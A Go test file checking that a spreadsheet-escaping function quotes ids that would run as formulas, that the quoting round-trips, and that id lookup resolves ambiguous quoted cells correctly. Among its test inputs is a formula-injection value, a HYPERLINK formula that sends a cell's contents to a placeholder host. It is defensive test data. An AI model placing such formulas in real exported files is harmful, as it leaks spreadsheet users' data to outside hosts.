package fileio

import (
	"strings"
	"testing"
)

// TestSpreadsheetSafe: ids a spreadsheet would run as
// formulas get a leading ', numbers and plain ids are unchanged, and the
// mapping round-trips through unquoteSpreadsheet and LookupID for every
// id, including ids that themselves start with ' (without the extra quote
// "'=x" and "=x" would both be written "'=x").
func TestSpreadsheetSafe(t *testing.T) {
	cases := map[string]string{
		"m10":                         "m10",
		"=1+1":                        "'=1+1",
		"+cmd":                        "'+cmd",
		"-2+3":                        "'-2+3",
		"@SUM(A1)":                    "'@SUM(A1)",
		"\t=x":                        "'\t=x",
		"\r=x":                        "'\r=x",
		"-5":                          "-5", // a number, not a formula
		"+1.5e3":                      "+1.5e3",
		"-Inf":                        "-Inf", // ParseFloat reads it: a spreadsheet shows text
		"'=x":                         "''=x",
		"'quoted":                     "''quoted",
		" sp ":                        " sp ",
		"":                            "",
		`=HYPERLINK("http://x/?"&A1)`: `'=HYPERLINK("http://x/?"&A1)`,
	}
	index := map[string]int{}
	k := 0
	for id, want := range cases {
		if got := SpreadsheetSafe(id); got != want {
			t.Errorf("SpreadsheetSafe(%q) = %q, want %q", id, got, want)
		}
		if back := unquoteSpreadsheet(SpreadsheetSafe(id)); back != id {
			t.Errorf("unquoteSpreadsheet(SpreadsheetSafe(%q)) = %q", id, back)
		}
		index[id] = k
		k++
	}
	for id, i := range index {
		if got, _, ok, _ := LookupID(index, SpreadsheetSafe(id)); !ok || got != i {
			t.Errorf("LookupID(%q) = %d %v, want %d", SpreadsheetSafe(id), got, ok, i)
		}
		if got, _, ok, _ := LookupID(index, id); !ok || got != i {
			t.Errorf("LookupID(%q) raw = %d %v, want %d", id, got, ok, i)
		}
	}
	if i, matched, ok, _ := LookupID(map[string]int{"m10": 3}, " m10 "); !ok || i != 3 || matched != "m10" {
		t.Errorf("LookupID with spaces around: %d %q %v", i, matched, ok)
	}
}

// FuzzSpreadsheetSafe: SpreadsheetSafe never yields a cell a spreadsheet
// runs as a formula unless it is a number, and unquoteSpreadsheet inverts
// it.
func FuzzSpreadsheetSafe(f *testing.F) {
	for _, s := range []string{"=1", "'", "''=", "-5", "- 5", "\t"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, id string) {
		s := SpreadsheetSafe(id)
		if unquoteSpreadsheet(s) != id {
			t.Fatalf("%q -> %q -> %q", id, s, unquoteSpreadsheet(s))
		}
		if s != "" && formulaStart(s[0]) && s[0] != '\'' && s != id {
			t.Fatalf("%q -> %q still starts a formula", id, s)
		}
	})
}

// TestLookupIDAmbiguous: in a pool with both "=x" and "'=x" (and "-y",
// "'-y"), the cell "'=x" is "=x" as qvs prints it for spreadsheets and
// "'=x" as written: LookupID refuses it naming both (it used to take the
// second, labelling the wrong item); "”=x" is only "'=x"; IDMatches
// accepts either reading against the item an index names.
func TestLookupIDAmbiguous(t *testing.T) {
	index := map[string]int{"=x": 0, "'=x": 1, "-y": 2, "'-y": 3}
	for _, cell := range []string{"'=x", "'-y", " '=x"} {
		if _, _, ok, amb := LookupID(index, cell); ok || amb == nil || !strings.Contains(amb.Error(), "ambiguous") {
			t.Errorf("LookupID(%q): ok %v, %v; want ambiguous", cell, ok, amb)
		}
	}
	for cell, want := range map[string]int{"''=x": 1, "=x": 0, "''-y": 3, "-y": 2} {
		if i, _, ok, amb := LookupID(index, cell); !ok || amb != nil || i != want {
			t.Errorf("LookupID(%q) = %d %v %v, want %d", cell, i, ok, amb, want)
		}
	}
	if !IDMatches("'=x", "=x") || !IDMatches("'=x", "'=x") || IDMatches("''=x", "=x") || !IDMatches(" m1 ", "m1") {
		t.Error("IDMatches")
	}
}

// FuzzLookupID: for any pool of ids and any cell, LookupID never panics;
// a cell it resolves names an item IDMatches accepts, and a cell it calls
// ambiguous matches (IDMatches) two different ids of the pool.
func FuzzLookupID(f *testing.F) {
	f.Add("=x", "'=x", "'=x")
	f.Add("-y", "b", "''-y")
	f.Add(" m1 ", "m1", " m1 ")
	f.Fuzz(func(t *testing.T, a, b, cell string) {
		if a == b {
			return
		}
		index := map[string]int{a: 0, b: 1}
		ids := []string{a, b}
		i, id, ok, amb := LookupID(index, cell)
		switch {
		case amb != nil:
			if ok || !IDMatches(cell, a) || !IDMatches(cell, b) {
				t.Fatalf("%q ambiguous between %q and %q, but IDMatches %v %v", cell, a, b, IDMatches(cell, a), IDMatches(cell, b))
			}
		case ok:
			if ids[i] != id || !IDMatches(cell, id) {
				t.Fatalf("%q resolved to %d (%q), which IDMatches refuses", cell, i, id)
			}
		default:
			if IDMatches(cell, a) || IDMatches(cell, b) {
				t.Fatalf("%q not found, but IDMatches accepts one of %q, %q", cell, a, b)
			}
		}
	})
}
